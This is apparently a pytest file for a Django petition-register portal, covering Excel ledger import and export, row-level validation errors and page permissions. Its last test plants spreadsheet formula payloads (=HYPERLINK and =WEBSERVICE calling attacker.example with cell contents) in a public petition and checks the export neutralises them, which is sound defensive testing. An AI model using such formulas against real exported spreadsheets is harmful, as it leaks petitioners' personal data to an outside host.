import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from huanghe_portal.ledgers import LedgerImportError
from huanghe_portal.tests.helpers import assert_no_live_formula, import_through_pages
from petitions import ledgers
from petitions.models import Petition

from .factories import make_id_number

pytestmark = pytest.mark.django_db

HEADER = [c.header for c in ledgers.COLUMNS]


def workbook(rows) -> SimpleUploadedFile:
    from openpyxl import Workbook

    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    sheet.append(HEADER)
    for row in rows:
        sheet.append([row.get(h) for h in HEADER])
    buffer = io.BytesIO()
    wb.save(buffer)
    return SimpleUploadedFile("ledger.xlsx", buffer.getvalue())


ROWS = [
    {
        "收到日期": "2024-03-01",
        "信访形式": "来访",
        "来源": "群众直接反映",
        "类别": "申诉求决类",
        "信访人": "谭某",
        "身份证号码": make_id_number(11),
        "联系电话": "13800001234",
        "村（社区）": "平桥村",
        "人数": 6,
        "代表": "甲、乙",
        "反映事项": "修路",
        "受理日期": "2024-03-03",
        "答复日期": "2024-04-01",
        "处理结果": "支持",
        "处理意见": "已安排修复。",
    },
    {
        "编号": "黄鹤信〔2024〕88号",
        "收到日期": "2024-05-01",
        "信访形式": "来信",
        "来源": "12345热线",
        "类别": "建议意见类",
        "信访人": "冉某",
        "人数": 1,
        "反映事项": "增设路灯",
        "12345工单号": "12345-X-1",
        "越级": "否",
    },
]


def test_ledger_round_trip(petition_clerk, village, township):
    assert ledgers.import_ledger(workbook(ROWS), actor=petition_clerk) == {
        "created": 2,
        "skipped": 0,
    }
    created = list(Petition.objects.order_by("pk"))
    assert [p.status for p in created] == ["replied", "registered"]
    assert created[1].number == "黄鹤信〔2024〕88号"
    exported = ledgers.export(Petition.objects.all())
    first = [
        tuple(r) for r in load_workbook(io.BytesIO(exported)).active.iter_rows(values_only=True)
    ]
    Petition.objects.all().delete()  # a fresh register, as in another office's database
    again = ledgers.import_ledger(SimpleUploadedFile("again.xlsx", exported), actor=petition_clerk)
    assert again == {"created": 2, "skipped": 0}
    second = [
        tuple(r)
        for r in load_workbook(io.BytesIO(ledgers.export(Petition.objects.all()))).active.iter_rows(
            values_only=True
        )
    ]
    assert second == first
    assert Petition.objects.get(petitioner_name="谭某").handling_due == dt.date(2024, 5, 2)


def test_bad_row_imports_nothing(petition_clerk, village):
    bad = {**ROWS[1], "信访形式": "飞鸽", "收到日期": "2024-13-01"}
    with pytest.raises(LedgerImportError) as exc:
        ledgers.import_ledger(workbook([ROWS[0], bad]), actor=petition_clerk)
    messages = [str(e) for e in exc.value.errors]
    assert any("第3行“信访形式”" in m for m in messages)
    assert any("第3行“收到日期”" in m for m in messages)
    assert not Petition.objects.exists()


def test_service_errors_are_reported_by_row_and_nothing_kept(petition_clerk, village):
    bad = {**ROWS[1], "代表": "甲、乙、丙、丁、戊、己", "编号": ""}
    with pytest.raises(LedgerImportError) as exc:
        ledgers.import_ledger(workbook([ROWS[0], bad]), actor=petition_clerk)
    assert "第3行“代表”" in str(exc.value.errors[0])
    assert not Petition.objects.exists()


def test_ledger_pages(client, petition_clerk, leader, village):
    client.force_login(leader)
    assert client.get(reverse("petitions:ledger-export")).status_code == 403
    client.force_login(petition_clerk)
    response = import_through_pages(client, reverse("petitions:ledger-import"), workbook(ROWS))
    assert "导入完成：新增 2 条，已存在 0 条。" in response.content.decode()
    assert Petition.objects.count() == 2
    response = client.post(reverse("petitions:ledger-export"), {"reason": "核对登记台账"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_public_petition_named_like_a_formula_stays_text_in_the_clerks_ledger(
    client, api_client, petition_clerk
):
    name = '=HYPERLINK("http://attacker.example/?d="&G2&H2,"点击查看")'
    summary = '=WEBSERVICE("http://attacker.example/?"&G2)'
    response = api_client.post(
        reverse("api:public-petition-create"),
        {"petitioner_name": name, "phone": "13812345678", "summary": summary},
        format="json",
    )
    assert response.status_code == 201
    client.force_login(petition_clerk)

    content = client.post(reverse("petitions:ledger-export"), {"reason": "核对登记台账"}).getvalue()

    assert_no_live_formula(content, name, summary)
